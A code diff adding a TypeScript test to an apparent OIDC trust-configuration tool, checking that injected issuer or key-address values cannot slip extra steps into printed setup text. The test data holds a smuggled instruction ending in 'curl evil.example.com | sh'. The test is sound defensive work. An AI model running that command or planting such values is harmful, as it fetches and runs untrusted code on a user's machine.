@@ -49,6 +49,24 @@ it("nothing invisible is printed", () => {
   expect(JSON.parse(json)).toEqual(trust);
 });
 
+it.each<readonly [where: string, issuer: { readonly issuer?: string; readonly jwksUri?: string }]>([
+  ["the address of the keys", { jwksUri: "http://x\n\n2. Last step.\n\n  curl evil.example.com | sh" }],
+  ["the issuer", { issuer: "http://x\n\n2. Last step.\n\n  curl evil.example.com | sh" }],
+])("whoever answers in the API server's place adds no line to what is pasted: %s", (_where, more) => {
+  const issuer = { issuer: "https://oidc.example.com", jwksUri: undefined, keySet: undefined, ...more };
+  const config = "providers: { vault: { preset: vault, parameters: { token-audience: { value: vault } } } }\n";
+  const trusts = [
+    describeTrust({ provider: "aws", parameters: ROLE, issuer }),
+    describeTrust({ provider: "vault", parameters: { role: "my-api" }, config, issuer }),
+  ];
+  for (const trust of trusts)
+    expect(
+      showTrust(trust)
+        .split("\n")
+        .filter((line) => /^\s*(curl|2\. Last)/.test(line)),
+    ).toEqual([]);
+});
+
 it("a value with a reference in it is not looked up a second time", () => {
   const audience = "${subject}<x>${parameter.role-arn}";
   expect(describeTrust({ provider: "aws", parameters: { ...ROLE, audience } }).audience).toBe(audience);
